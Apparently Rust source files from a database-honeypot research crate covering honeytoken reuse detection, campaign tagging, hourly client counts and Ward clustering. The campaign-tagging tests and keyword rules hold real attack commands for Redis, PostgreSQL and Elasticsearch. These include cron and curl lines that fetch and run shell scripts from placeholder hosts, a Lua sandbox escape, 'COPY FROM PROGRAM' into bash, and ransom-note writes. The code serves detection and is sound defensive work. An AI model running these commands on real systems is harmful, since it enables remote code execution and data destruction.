    pub harvested_keys: Vec<String>,
    /// Honeypot families where the reuse happened.
    pub reuse_sites: BTreeSet<decoy_store::Dbms>,
}

/// Fleet-wide honeytoken report.
#[derive(Debug, Clone, Default)]
pub struct HoneytokenReport {
    /// Number of bait credentials planted.
    pub bait_planted: usize,
    /// Sources that demonstrated knowledge of the bait, with evidence.
    pub knowing_sources: BTreeMap<IpAddr, BaitKnowledge>,
    /// Total reuse attempts observed.
    pub reuse_attempts: usize,
}

impl HoneytokenReport {
    /// True when at least one adversary exhibited knowledge of the data.
    pub fn tripped(&self) -> bool {
        !self.knowing_sources.is_empty()
    }
}

/// Scan the log for reuse of the planted `(key, password)` bait entries.
pub fn detect_reuse(store: &EventStore, bait: &[(String, String)]) -> HoneytokenReport {
    let passwords: BTreeMap<&str, &str> =
        bait.iter().map(|(k, v)| (v.as_str(), k.as_str())).collect();
    let keys: BTreeSet<&str> = bait.iter().map(|(k, _)| k.as_str()).collect();
    let mut report = HoneytokenReport {
        bait_planted: bait.len(),
        ..Default::default()
    };
    store.fold((), |(), event| match &event.kind {
        EventKind::LoginAttempt { password, .. } if passwords.contains_key(password.as_str()) => {
            report.reuse_attempts += 1;
            let entry = report.knowing_sources.entry(event.src).or_default();
            if !entry.reused_passwords.contains(password) {
                entry.reused_passwords.push(password.clone());
            }
            entry.reuse_sites.insert(event.honeypot.dbms);
        }
        EventKind::Command { raw, .. } => {
            if let Some(key) = raw.strip_prefix("GET ") {
                if keys.contains(key.trim()) {
                    // only sources that later reuse will appear in the
                    // report; stash harvests for those already present,
                    // and for new sources lazily via a second pass below.
                    report
                        .knowing_sources
                        .entry(event.src)
                        .or_default()
                        .harvested_keys
                        .push(key.trim().to_string());
                }
            }
        }
        _ => {}
    });
    // Drop sources that only read bait but never reused it — reading the
    // planted data is expected scouting; *knowledge* means reuse.
    report
        .knowing_sources
        .retain(|_, k| !k.reused_passwords.is_empty());
    report
}

/// Frame counterpart of [`detect_reuse`]: the same scan over a
/// [`FrameView`](crate::frame::FrameView)'s interned events.
pub fn detect_reuse_view(
    view: crate::frame::FrameView<'_>,
    bait: &[(String, String)],
) -> HoneytokenReport {
    use crate::frame::FrameKind;
    let passwords: BTreeMap<&str, &str> =
        bait.iter().map(|(k, v)| (v.as_str(), k.as_str())).collect();
    let keys: BTreeSet<&str> = bait.iter().map(|(k, _)| k.as_str()).collect();
    let mut report = HoneytokenReport {
        bait_planted: bait.len(),
        ..Default::default()
    };
    for event in view.events() {
        match &event.kind {
            FrameKind::LoginAttempt { password, .. }
                if passwords.contains_key(password.as_ref()) =>
            {
                report.reuse_attempts += 1;
                let entry = report.knowing_sources.entry(event.src).or_default();
                if !entry
                    .reused_passwords
                    .iter()
                    .any(|p| p == password.as_ref())
                {
                    entry.reused_passwords.push(password.as_ref().to_string());
                }
                entry.reuse_sites.insert(event.honeypot.dbms);
            }
            FrameKind::Command { raw, .. } => {
                if let Some(key) = raw.strip_prefix("GET ") {
                    if keys.contains(key.trim()) {
                        report
                            .knowing_sources
                            .entry(event.src)
                            .or_default()
                            .harvested_keys
                            .push(key.trim().to_string());
                    }
                }
            }
            _ => {}
        }
    }
    report
        .knowing_sources
        .retain(|_, k| !k.reused_passwords.is_empty());
    report
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_net::time::EXPERIMENT_START;
    use decoy_store::{ConfigVariant, Dbms, Event, HoneypotId, InteractionLevel};

    fn log(store: &EventStore, src: u8, dbms: Dbms, kind: EventKind) {
        store.log(Event {
            ts: EXPERIMENT_START,
            honeypot: HoneypotId::new(dbms, InteractionLevel::Medium, ConfigVariant::FakeData, 0),
            src: IpAddr::from([60, 44, 0, src]),
            session: 1,
            kind,
        });
    }

    fn bait() -> Vec<(String, String)> {
        vec![
            ("user:alice1".into(), "sunshine42".into()),
            ("user:bob7".into(), "dragon99!".into()),
        ]
    }

    #[test]
    fn harvest_then_reuse_is_detected() {
        let store = EventStore::new();
        log(
            &store,
            1,
            Dbms::Redis,
            EventKind::Command {
                action: "GET user:alice1".into(),
                raw: "GET user:alice1".into(),
            },
        );
        log(
            &store,
            1,
            Dbms::Redis,
            EventKind::LoginAttempt {
                username: "default".into(),
                password: "sunshine42".into(),
                success: false,
            },
        );
        let report = detect_reuse(&store, &bait());
        assert!(report.tripped());
        assert_eq!(report.reuse_attempts, 1);
        let k = &report.knowing_sources[&IpAddr::from([60, 44, 0, 1])];
        assert_eq!(k.reused_passwords, vec!["sunshine42"]);
        assert_eq!(k.harvested_keys, vec!["user:alice1"]);
        assert!(k.reuse_sites.contains(&Dbms::Redis));

        // the frame path produces the same report
        let frame = crate::frame::AnalysisFrame::build(&store, &decoy_geo::GeoDb::builtin());
        let fr = detect_reuse_view(frame.view(crate::frame::Partition::All), &bait());
        assert_eq!(fr.bait_planted, report.bait_planted);
        assert_eq!(fr.reuse_attempts, report.reuse_attempts);
        assert_eq!(fr.knowing_sources, report.knowing_sources);
    }

    #[test]
    fn reuse_on_another_family_is_a_tripwire() {
        // the Wegerer & Tjoa scenario: bait credentials reappear elsewhere
        let store = EventStore::new();
        log(
            &store,
            2,
            Dbms::Postgres,
            EventKind::LoginAttempt {
                username: "postgres".into(),
                password: "dragon99!".into(),
                success: false,
            },
        );
        let report = detect_reuse(&store, &bait());
        assert!(report.tripped());
        assert!(report.knowing_sources[&IpAddr::from([60, 44, 0, 2])]
            .reuse_sites
            .contains(&Dbms::Postgres));
    }

    #[test]
    fn reading_without_reuse_is_not_knowledge() {
        let store = EventStore::new();
        log(
            &store,
            3,
            Dbms::Redis,
            EventKind::Command {
                action: "GET user:alice1".into(),
                raw: "GET user:alice1".into(),
            },
        );
        let report = detect_reuse(&store, &bait());
        assert!(!report.tripped());
        assert_eq!(report.reuse_attempts, 0);
    }

    #[test]
    fn unrelated_credentials_do_not_trip() {
        let store = EventStore::new();
        log(
            &store,
            4,
            Dbms::Mssql,
            EventKind::LoginAttempt {
                username: "sa".into(),
                password: "123".into(),
                success: false,
            },
        );
        let report = detect_reuse(&store, &bait());
        assert!(!report.tripped());
        assert_eq!(report.bait_planted, 2);
    }
}
