//! Campaign tagging (§6.1–§6.3, Table 9).
//!
//! "For those clusters that contained actions of particular interest, we
//! manually assigned descriptive tags, such as 'bruteforce', known botnet
//! names, or malware identifiers, based on recognizable commands or files
//! associated with the attacks." This module encodes those recognitions as
//! rules over the raw command stream of each source.

use crate::frame::{FrameKind, FrameView};
use decoy_store::{Dbms, EventKind, EventStore};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::net::IpAddr;
use std::sync::Arc;

/// The campaigns of Table 9 (plus brute-force, which the paper tags too).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum CampaignTag {
    /// P2PInfect worm via Redis (Listing 1).
    P2pInfect,
    /// ABCbot loader via Redis (Listing 2).
    AbcBot,
    /// CVE-2022-0543 Lua sandbox escape in Redis (Listing 3).
    RedisCve20220543,
    /// Kinsing cryptojacking via PostgreSQL `COPY FROM PROGRAM` (Listing 4).
    Kinsing,
    /// Lucifer/Rudedevil cryptominer via Elasticsearch scripts (Listings 5–6).
    Lucifer,
    /// MongoDB data theft + ransom notes (Listings 7–8).
    MongoRansom,
    /// PostgreSQL privilege manipulation (Listing 13).
    PrivilegeManipulation,
    /// Credential brute-forcing.
    BruteForce,
    /// RDP service scan on a database port (Listing 10).
    RdpScan,
    /// JDWP handshake probe (Listing 11).
    JdwpScan,
    /// VMware vSphere SOAP recon, CVE-2021-22005 (Listing 12).
    VmwareRecon,
    /// Craft CMS CVE-2023-41892 probe (Listing 14).
    CraftCmsProbe,
}

impl CampaignTag {
    /// Stable tag label.
    pub fn label(&self) -> &'static str {
        match self {
            CampaignTag::P2pInfect => "p2pinfect",
            CampaignTag::AbcBot => "abcbot",
            CampaignTag::RedisCve20220543 => "cve-2022-0543",
            CampaignTag::Kinsing => "kinsing",
            CampaignTag::Lucifer => "lucifer",
            CampaignTag::MongoRansom => "ransom",
            CampaignTag::PrivilegeManipulation => "privilege-manipulation",
            CampaignTag::BruteForce => "bruteforce",
            CampaignTag::RdpScan => "rdp-scan",
            CampaignTag::JdwpScan => "jdwp-scan",
            CampaignTag::VmwareRecon => "vmware-recon",
            CampaignTag::CraftCmsProbe => "craftcms-probe",
        }
    }

    /// Table 9 category for this campaign.
    pub fn category(&self) -> AttackCategory {
        match self {
            CampaignTag::RdpScan
            | CampaignTag::JdwpScan
            | CampaignTag::VmwareRecon
            | CampaignTag::CraftCmsProbe => AttackCategory::UnrelatedServiceScan,
            CampaignTag::BruteForce | CampaignTag::PrivilegeManipulation => {
                AttackCategory::AttackOnDbms
            }
            CampaignTag::MongoRansom => AttackCategory::AttackOnData,
            CampaignTag::P2pInfect
            | CampaignTag::AbcBot
            | CampaignTag::RedisCve20220543
            | CampaignTag::Kinsing
            | CampaignTag::Lucifer => AttackCategory::AttackOnSystem,
        }
    }
}

/// The four rows of Table 9.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum AttackCategory {
    /// Scans for services unrelated to the DBMS.
    UnrelatedServiceScan,
    /// Direct attacks on the DBMS.
    AttackOnDbms,
    /// Attacks on the data in the DBMS.
    AttackOnData,
    /// Use of the DBMS to compromise the underlying system.
    AttackOnSystem,
}

impl AttackCategory {
    /// Table label.
    pub fn label(&self) -> &'static str {
        match self {
            AttackCategory::UnrelatedServiceScan => "Scans for Services Unrelated to the DBMS",
            AttackCategory::AttackOnDbms => "Attacks on the DBMS",
            AttackCategory::AttackOnData => "Attacks on the Data in the DBMS",
            AttackCategory::AttackOnSystem => "Attacks on the underlying system",
        }
    }
}

/// Everything observed from one source on one DBMS, prepared for tagging.
/// Strings are shared `Arc<str>` references: the frame path hands out its
/// interned pool directly, the store path allocates once per event.
#[derive(Debug, Clone, Default)]
pub struct SourceActivity {
    /// Raw commands in order.
    pub raws: Vec<Arc<str>>,
    /// Recognized foreign-payload labels.
    pub foreign: Vec<Arc<str>>,
    /// Number of login attempts.
    pub login_attempts: usize,
    /// Distinct (username, password) pairs attempted.
    pub distinct_credentials: usize,
}

/// Tag one source's activity. Multiple tags are possible (e.g. a Kinsing
/// bot that also brute-forced its way in).
pub fn tag_activity(activity: &SourceActivity) -> Vec<CampaignTag> {
    let mut tags = Vec::new();
    let joined = activity
        .raws
        .iter()
        .map(|r| r.as_ref())
        .collect::<Vec<&str>>()
        .join("\n")
        .to_lowercase();

    if joined.contains("exp.so") || joined.contains("system.exec") {
        tags.push(CampaignTag::P2pInfect);
    }
    if joined.contains("ff.sh") {
        tags.push(CampaignTag::AbcBot);
    }
    if joined.contains("loadlib") || (joined.contains("eval") && joined.contains("luaopen")) {
        tags.push(CampaignTag::RedisCve20220543);
    }
    if joined.contains("from program") {
        tags.push(CampaignTag::Kinsing);
    }
    if joined.contains("sss6") || joined.contains("sv6") || joined.contains("runtime.getruntime") {
        tags.push(CampaignTag::Lucifer);
    }
    // ransom kill chain: enumerate + destroy + leave a note. The note can
    // arrive as a Mongo `insert` or (CouchDB extension) an HTTP `PUT` whose
    // body carries the payment demand.
    let dropped =
        joined.contains("drop ") || joined.contains("dropdatabase") || joined.contains("delete /");
    let inserted =
        joined.contains("insert ") || (joined.contains("put /") && joined.contains("btc"));
    if dropped && inserted {
        tags.push(CampaignTag::MongoRansom);
    }
    if joined.contains("alter user") || joined.contains("alter role") {
        tags.push(CampaignTag::PrivilegeManipulation);
    }
    // brute force: multiple distinct credential guesses
    if activity.distinct_credentials >= 2 || activity.login_attempts >= 3 {
        tags.push(CampaignTag::BruteForce);
    }
    for label in &activity.foreign {
        let tag = match label.as_ref() {
            "rdp-scan" => Some(CampaignTag::RdpScan),
            "jdwp-scan" => Some(CampaignTag::JdwpScan),
            "vmware-recon" => Some(CampaignTag::VmwareRecon),
            "craftcms-probe" => Some(CampaignTag::CraftCmsProbe),
            _ => None,
        };
        if let Some(tag) = tag {
            if !tags.contains(&tag) {
                tags.push(tag);
            }
        }
    }
    // VMware/CraftCMS probes can also arrive as HTTP commands
    if joined.contains("retrieveservicecontent") && !tags.contains(&CampaignTag::VmwareRecon) {
        tags.push(CampaignTag::VmwareRecon);
    }
    if joined.contains("conditions/render") && !tags.contains(&CampaignTag::CraftCmsProbe) {
        tags.push(CampaignTag::CraftCmsProbe);
    }
    tags
}

/// Collect [`SourceActivity`] per source for one DBMS family.
pub fn collect_activity(
    store: &EventStore,
    dbms: Option<Dbms>,
) -> BTreeMap<IpAddr, SourceActivity> {
    let events = match dbms {
        Some(d) => store.by_dbms(d),
        None => store.all(),
    };
    let mut out: BTreeMap<IpAddr, SourceActivity> = BTreeMap::new();
    let mut creds: BTreeMap<IpAddr, std::collections::BTreeSet<(String, String)>> = BTreeMap::new();
    for event in &events {
        if matches!(event.kind, EventKind::Health { .. }) {
            continue;
        }
        let entry = out.entry(event.src).or_default();
        match &event.kind {
            EventKind::Command { raw, .. } => entry.raws.push(Arc::from(raw.as_str())),
            EventKind::LoginAttempt {
                username, password, ..
            } => {
                entry.login_attempts += 1;
                creds
                    .entry(event.src)
                    .or_default()
                    .insert((username.clone(), password.clone()));
            }
            EventKind::Payload {
                recognized: Some(label),
                ..
            } => entry.foreign.push(Arc::from(label.as_str())),
            _ => {}
        }
    }
    for (src, set) in creds {
        out.get_mut(&src)
            .expect("entry exists")
            .distinct_credentials = set.len();
    }
    out
}

/// Frame counterpart of [`collect_activity`]: shares the frame's interned
/// strings instead of cloning raw commands.
pub fn collect_activity_view(
    view: FrameView<'_>,
    dbms: Option<Dbms>,
) -> BTreeMap<IpAddr, SourceActivity> {
    let mut out: BTreeMap<IpAddr, SourceActivity> = BTreeMap::new();
    let mut creds: BTreeMap<IpAddr, std::collections::BTreeSet<(Arc<str>, Arc<str>)>> =
        BTreeMap::new();
    for event in view.events_of(dbms) {
        let entry = out.entry(event.src).or_default();
        match &event.kind {
            FrameKind::Command { raw, .. } => entry.raws.push(Arc::clone(raw)),
            FrameKind::LoginAttempt {
                username, password, ..
            } => {
                entry.login_attempts += 1;
                creds
                    .entry(event.src)
                    .or_default()
                    .insert((Arc::clone(username), Arc::clone(password)));
            }
            FrameKind::Payload {
                recognized: Some(label),
                ..
            } => entry.foreign.push(Arc::clone(label)),
            _ => {}
        }
    }
    for (src, set) in creds {
        out.get_mut(&src)
            .expect("entry exists")
            .distinct_credentials = set.len();
    }
    out
}

/// Tag every source on `dbms`.
pub fn tag_sources(store: &EventStore, dbms: Option<Dbms>) -> BTreeMap<IpAddr, Vec<CampaignTag>> {
    collect_activity(store, dbms)
        .into_iter()
        .map(|(src, activity)| (src, tag_activity(&activity)))
        .filter(|(_, tags)| !tags.is_empty())
        .collect()
}

/// Frame counterpart of [`tag_sources`].
pub fn tag_sources_view(
    view: FrameView<'_>,
    dbms: Option<Dbms>,
) -> BTreeMap<IpAddr, Vec<CampaignTag>> {
    collect_activity_view(view, dbms)
        .into_iter()
        .map(|(src, activity)| (src, tag_activity(&activity)))
        .filter(|(_, tags)| !tags.is_empty())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn activity(raws: &[&str]) -> SourceActivity {
        SourceActivity {
            raws: raws.iter().map(|s| Arc::from(*s)).collect(),
            ..Default::default()
        }
    }

    #[test]
    fn p2pinfect_signature() {
        let a = activity(&[
            "CONFIG SET dbfilename exp.so",
            "SLAVEOF 198.51.100.1 8886",
            "MODULE LOAD /tmp/exp.so",
            "system.exec rm -rf /tmp/exp.so",
        ]);
        assert!(tag_activity(&a).contains(&CampaignTag::P2pInfect));
    }

    #[test]
    fn abcbot_signature() {
        let a = activity(&["SET backup1 */2 * * * * curl http://198.51.100.2:8080/ff.sh | sh"]);
        let tags = tag_activity(&a);
        assert!(tags.contains(&CampaignTag::AbcBot));
        assert!(!tags.contains(&CampaignTag::P2pInfect));
    }

    #[test]
    fn redis_cve_signature() {
        let a = activity(&[
            r#"EVAL local io_l = package.loadlib("/usr/lib/liblua5.1.so.0", "luaopen_io"); local io = io_l(); io.popen("id") 0"#,
        ]);
        assert!(tag_activity(&a).contains(&CampaignTag::RedisCve20220543));
    }

    #[test]
    fn kinsing_and_privilege_signatures() {
        let a = activity(&[
            "COPY deadbeef FROM PROGRAM 'echo x | base64 -d | bash'",
            "ALTER USER postgres WITH NOSUPERUSER",
        ]);
        let tags = tag_activity(&a);
        assert!(tags.contains(&CampaignTag::Kinsing));
        assert!(tags.contains(&CampaignTag::PrivilegeManipulation));
    }

    #[test]
    fn lucifer_signature() {
        let a = activity(&[
            r#"POST /_search {"script_fields":{"exp":{"script":"Runtime.getRuntime().exec('curl -o /tmp/sss6 http://x/sss6')"}}}"#,
        ]);
        assert!(tag_activity(&a).contains(&CampaignTag::Lucifer));
    }

    #[test]
    fn ransom_requires_drop_and_insert() {
        let full = activity(&[
            "listDatabases",
            "find prod.users",
            "drop prod.users",
            "insert prod.README",
        ]);
        assert!(tag_activity(&full).contains(&CampaignTag::MongoRansom));
        let read_only = activity(&["listDatabases", "find prod.users"]);
        assert!(!tag_activity(&read_only).contains(&CampaignTag::MongoRansom));
    }

    #[test]
    fn couch_ransom_variant_is_tagged() {
        let a = activity(&[
            "GET /_all_dbs",
            "GET /customers/_all_docs",
            "DELETE /customers",
            r#"PUT /warning/readme {"note":"send 0.01 BTC to recover"}"#,
        ]);
        assert!(tag_activity(&a).contains(&CampaignTag::MongoRansom));
    }

    #[test]
    fn bruteforce_thresholds() {
        let mut a = SourceActivity {
            login_attempts: 1,
            distinct_credentials: 1,
            ..Default::default()
        };
        assert!(tag_activity(&a).is_empty());
        a.distinct_credentials = 2;
        a.login_attempts = 2;
        assert_eq!(tag_activity(&a), vec![CampaignTag::BruteForce]);
        // single credential retried many times still counts (PG §5 behavior
        // is excluded: those try once or repeat the same pair < 3 times)
        let hammer = SourceActivity {
            login_attempts: 50,
            distinct_credentials: 1,
            ..Default::default()
        };
        assert_eq!(tag_activity(&hammer), vec![CampaignTag::BruteForce]);
    }

    #[test]
    fn foreign_probe_tags() {
        let a = SourceActivity {
            foreign: vec!["rdp-scan".into(), "jdwp-scan".into(), "rdp-scan".into()],
            ..Default::default()
        };
        let tags = tag_activity(&a);
        assert_eq!(tags, vec![CampaignTag::RdpScan, CampaignTag::JdwpScan]);
    }

    #[test]
    fn categories_match_table9() {
        assert_eq!(
            CampaignTag::RdpScan.category(),
            AttackCategory::UnrelatedServiceScan
        );
        assert_eq!(
            CampaignTag::BruteForce.category(),
            AttackCategory::AttackOnDbms
        );
        assert_eq!(
            CampaignTag::MongoRansom.category(),
            AttackCategory::AttackOnData
        );
        for t in [
            CampaignTag::P2pInfect,
            CampaignTag::AbcBot,
            CampaignTag::Kinsing,
            CampaignTag::Lucifer,
            CampaignTag::RedisCve20220543,
        ] {
            assert_eq!(t.category(), AttackCategory::AttackOnSystem);
        }
    }

    #[test]
    fn collect_activity_counts_credentials() {
        use decoy_net::time::EXPERIMENT_START;
        use decoy_store::{ConfigVariant, Event, HoneypotId, InteractionLevel};
        let store = EventStore::new();
        let src: IpAddr = "198.18.5.5".parse().unwrap();
        for (u, p) in [("sa", "123"), ("sa", "123456"), ("sa", "123")] {
            store.log(Event {
                ts: EXPERIMENT_START,
                honeypot: HoneypotId::new(
                    Dbms::Mssql,
                    InteractionLevel::Low,
                    ConfigVariant::MultiService,
                    0,
                ),
                src,
                session: 1,
                kind: EventKind::LoginAttempt {
                    username: u.into(),
                    password: p.into(),
                    success: false,
                },
            });
        }
        let acts = collect_activity(&store, Some(Dbms::Mssql));
        assert_eq!(acts[&src].login_attempts, 3);
        assert_eq!(acts[&src].distinct_credentials, 2);
        let tags = tag_sources(&store, Some(Dbms::Mssql));
        assert_eq!(tags[&src], vec![CampaignTag::BruteForce]);

        // the frame path collects and tags identically
        let frame = crate::frame::AnalysisFrame::build(&store, &decoy_geo::GeoDb::builtin());
        let view = frame.view(crate::frame::Partition::All);
        let view_acts = collect_activity_view(view, Some(Dbms::Mssql));
        assert_eq!(view_acts[&src].login_attempts, 3);
        assert_eq!(view_acts[&src].distinct_credentials, 2);
        assert_eq!(tag_sources_view(view, Some(Dbms::Mssql)), tags);
    }
}
