//! Hourly activity series (Figure 2, Figures 6–9).
//!
//! For each hour of the observation window: the number of distinct client
//! IPs connecting, and the cumulative count of never-before-seen IPs — the
//! two curves of the paper's temporal-distribution figures.

use decoy_net::time::Timestamp;
use decoy_store::{Dbms, EventStore};
use std::collections::HashSet;
use std::net::IpAddr;

/// One hourly bucket.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct HourBucket {
    /// Distinct client IPs seen this hour.
    pub unique_clients: usize,
    /// Clients seen this hour that had never appeared before.
    pub new_clients: usize,
    /// Cumulative distinct clients up to and including this hour.
    pub cumulative_clients: usize,
}

/// The full series over `[origin, origin + hours)`.
#[derive(Debug, Clone)]
pub struct HourlySeries {
    /// Series origin.
    pub origin: Timestamp,
    /// One bucket per hour.
    pub buckets: Vec<HourBucket>,
}

impl HourlySeries {
    /// Mean distinct clients per hour (the paper's "on average we observe
    /// 50 clients probing our honeypots every hour").
    pub fn mean_clients_per_hour(&self) -> f64 {
        if self.buckets.is_empty() {
            return 0.0;
        }
        self.buckets.iter().map(|b| b.unique_clients).sum::<usize>() as f64
            / self.buckets.len() as f64
    }

    /// Mean previously-unseen clients per hour ("7 previously unseen
    /// clients each hour").
    pub fn mean_new_clients_per_hour(&self) -> f64 {
        if self.buckets.is_empty() {
            return 0.0;
        }
        self.buckets.iter().map(|b| b.new_clients).sum::<usize>() as f64 / self.buckets.len() as f64
    }

    /// Total distinct clients over the window.
    pub fn total_unique_clients(&self) -> usize {
        self.buckets
            .last()
            .map(|b| b.cumulative_clients)
            .unwrap_or(0)
    }
}

/// Build the hourly series for honeypots of `dbms` (all when `None`).
/// Events outside `[origin, origin + hours·1h)` are ignored.
pub fn hourly_series(
    store: &EventStore,
    dbms: Option<Dbms>,
    origin: Timestamp,
    hours: usize,
) -> HourlySeries {
    let events = match dbms {
        Some(d) => store.by_dbms(d),
        None => store.all(),
    };
    let mut per_hour: Vec<HashSet<IpAddr>> = vec![HashSet::new(); hours];
    for event in &events {
        if event.ts < origin {
            continue;
        }
        let h = event.ts.hours_since(origin) as usize;
        if h < hours {
            per_hour[h].insert(event.src);
        }
    }
    let mut seen: HashSet<IpAddr> = HashSet::new();
    let mut buckets = Vec::with_capacity(hours);
    for hour_set in per_hour {
        let mut new_clients = 0;
        for ip in &hour_set {
            if seen.insert(*ip) {
                new_clients += 1;
            }
        }
        buckets.push(HourBucket {
            unique_clients: hour_set.len(),
            new_clients,
            cumulative_clients: seen.len(),
        });
    }
    HourlySeries { origin, buckets }
}

/// Frame counterpart of [`hourly_series`]: the same two curves computed from
/// a [`FrameView`](crate::frame::FrameView) without cloning events.
pub fn hourly_series_view(
    view: crate::frame::FrameView<'_>,
    dbms: Option<Dbms>,
    origin: Timestamp,
    hours: usize,
) -> HourlySeries {
    let mut per_hour: Vec<HashSet<IpAddr>> = vec![HashSet::new(); hours];
    for event in view.events_of(dbms) {
        if event.ts < origin {
            continue;
        }
        let h = event.ts.hours_since(origin) as usize;
        if h < hours {
            per_hour[h].insert(event.src);
        }
    }
    let mut seen: HashSet<IpAddr> = HashSet::new();
    let mut buckets = Vec::with_capacity(hours);
    for hour_set in per_hour {
        let mut new_clients = 0;
        for ip in &hour_set {
            if seen.insert(*ip) {
                new_clients += 1;
            }
        }
        buckets.push(HourBucket {
            unique_clients: hour_set.len(),
            new_clients,
            cumulative_clients: seen.len(),
        });
    }
    HourlySeries { origin, buckets }
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_net::time::{EXPERIMENT_START, MILLIS_PER_HOUR};
    use decoy_store::{ConfigVariant, Event, EventKind, HoneypotId, InteractionLevel};

    fn log_at(store: &EventStore, src: u8, hour: u64) {
        store.log(Event {
            ts: EXPERIMENT_START.add_millis(hour * MILLIS_PER_HOUR + 60_000),
            honeypot: HoneypotId::new(
                Dbms::MySql,
                InteractionLevel::Low,
                ConfigVariant::MultiService,
                0,
            ),
            src: IpAddr::from([203, 0, 113, src]),
            session: 1,
            kind: EventKind::Connect,
        });
    }

    #[test]
    fn buckets_and_cumulative_counts() {
        let store = EventStore::new();
        // hour 0: ips 1, 2; hour 1: ips 2, 3; hour 3: ip 1 again
        log_at(&store, 1, 0);
        log_at(&store, 2, 0);
        log_at(&store, 2, 1);
        log_at(&store, 3, 1);
        log_at(&store, 1, 3);
        let s = hourly_series(&store, Some(Dbms::MySql), EXPERIMENT_START, 4);
        assert_eq!(
            s.buckets[0],
            HourBucket {
                unique_clients: 2,
                new_clients: 2,
                cumulative_clients: 2
            }
        );
        assert_eq!(
            s.buckets[1],
            HourBucket {
                unique_clients: 2,
                new_clients: 1,
                cumulative_clients: 3
            }
        );
        assert_eq!(
            s.buckets[2],
            HourBucket {
                unique_clients: 0,
                new_clients: 0,
                cumulative_clients: 3
            }
        );
        assert_eq!(
            s.buckets[3],
            HourBucket {
                unique_clients: 1,
                new_clients: 0,
                cumulative_clients: 3
            }
        );
        assert_eq!(s.total_unique_clients(), 3);
        assert!((s.mean_clients_per_hour() - 5.0 / 4.0).abs() < 1e-12);
        assert!((s.mean_new_clients_per_hour() - 3.0 / 4.0).abs() < 1e-12);

        // the frame path produces identical buckets
        let frame = crate::frame::AnalysisFrame::build(&store, &decoy_geo::GeoDb::builtin());
        let view = frame.view(crate::frame::Partition::All);
        let sv = hourly_series_view(view, Some(Dbms::MySql), EXPERIMENT_START, 4);
        assert_eq!(sv.buckets, s.buckets);
        assert_eq!(sv.origin, s.origin);
    }

    #[test]
    fn events_outside_window_are_ignored() {
        let store = EventStore::new();
        log_at(&store, 1, 0);
        log_at(&store, 2, 100); // beyond a 4-hour window
        let s = hourly_series(&store, None, EXPERIMENT_START, 4);
        assert_eq!(s.total_unique_clients(), 1);
    }

    #[test]
    fn multiple_events_same_ip_same_hour_count_once() {
        let store = EventStore::new();
        for _ in 0..10 {
            log_at(&store, 7, 2);
        }
        let s = hourly_series(&store, None, EXPERIMENT_START, 4);
        assert_eq!(s.buckets[2].unique_clients, 1);
    }

    #[test]
    fn empty_series() {
        let store = EventStore::new();
        let s = hourly_series(&store, None, EXPERIMENT_START, 0);
        assert_eq!(s.total_unique_clients(), 0);
        assert_eq!(s.mean_clients_per_hour(), 0.0);
        assert_eq!(s.mean_new_clients_per_hour(), 0.0);
    }
}
