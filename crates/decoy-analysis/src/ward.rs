//! Ward-linkage core: the nearest-neighbor-chain algorithm over a condensed
//! dissimilarity matrix, plus the naive global-scan implementation kept as a
//! test oracle.
//!
//! Like [`tfvec`](super::tfvec), this module is std-only so it can be
//! compiled and tested standalone in offline containers (the shadow-build
//! trick of `decoy-xtask`/`decoy-fuzz`). Paths into the rest of the crate
//! go through `super` only. The public surface is re-exported through
//! [`crate::cluster`].
//!
//! ## Why the chain algorithm gives the same answer
//!
//! Ward's criterion is *reducible*: merging clusters `i` and `j` never
//! brings the merged cluster closer to a bystander `k` than the nearer of
//! `d(i,k)`, `d(j,k)`. For reducible linkages, merging any
//! reciprocal-nearest-neighbor pair — not necessarily the globally closest
//! one — produces the same dendrogram as greedy global-minimum merging, up
//! to the order in which independent merges are recorded (Murtagh's
//! nearest-neighbor-chain argument). Ties are broken identically in both
//! implementations (smallest slot index wins), and [`canonicalize`]
//! rewrites either merge history into a unique order — stable sort by
//! `(height, min-leaf child ids)` constrained to dependency order, with a
//! union-find-style relabel — so `cut_at`/`cut_into` partitions coincide.
//!
//! Complexity: the chain performs O(n) nearest-neighbor scans of O(n) each
//! between consecutive merges amortized, for O(n²) total — no per-step
//! global O(n²) rescans — over a condensed upper-triangle matrix (half the
//! memory of the former full square), whose initial Ward dissimilarities
//! are computed in parallel row blocks with `std::thread::scope`.

use super::tfvec::TfVector;
use std::cmp::{Ordering, Reverse};
use std::collections::{BinaryHeap, HashMap};

/// One merge step: clusters `a` and `b` (ids in scipy convention: leaves are
/// `0..n`, the cluster created by step `s` is `n + s`) joined at `height`.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Merge {
    /// First merged cluster id (the child containing the smaller leaf).
    pub a: usize,
    /// Second merged cluster id.
    pub b: usize,
    /// Ward criterion value (variance increase) at this merge.
    pub height: f64,
    /// Total weight of the resulting cluster.
    pub size: f64,
}

/// The full merge history over `n` leaves.
#[derive(Debug, Clone, Default)]
pub struct Dendrogram {
    /// Number of leaves.
    pub n: usize,
    /// Merges in canonical order (heights are non-decreasing).
    pub merges: Vec<Merge>,
}

impl Dendrogram {
    /// Cut so that merges with `height <= threshold` are applied. Returns a
    /// label in `0..k` for each leaf.
    pub fn cut_at(&self, threshold: f64) -> Vec<usize> {
        let apply = self
            .merges
            .iter()
            .take_while(|m| m.height <= threshold)
            .count();
        self.cut_after(apply)
    }

    /// Cut into exactly `k` clusters (or as close as the hierarchy allows).
    pub fn cut_into(&self, k: usize) -> Vec<usize> {
        let k = k.clamp(1, self.n.max(1));
        let apply = self.n.saturating_sub(k).min(self.merges.len());
        self.cut_after(apply)
    }

    /// Apply the first `steps` merges and label the components.
    fn cut_after(&self, steps: usize) -> Vec<usize> {
        let mut parent: Vec<usize> = (0..self.n + steps).collect();
        fn find(parent: &mut [usize], mut x: usize) -> usize {
            while parent[x] != x {
                parent[x] = parent[parent[x]];
                x = parent[x];
            }
            x
        }
        for (step, merge) in self.merges.iter().take(steps).enumerate() {
            let new_id = self.n + step;
            let ra = find(&mut parent, merge.a);
            let rb = find(&mut parent, merge.b);
            parent[ra] = new_id;
            parent[rb] = new_id;
        }
        // compact component labels
        let mut labels = vec![0usize; self.n];
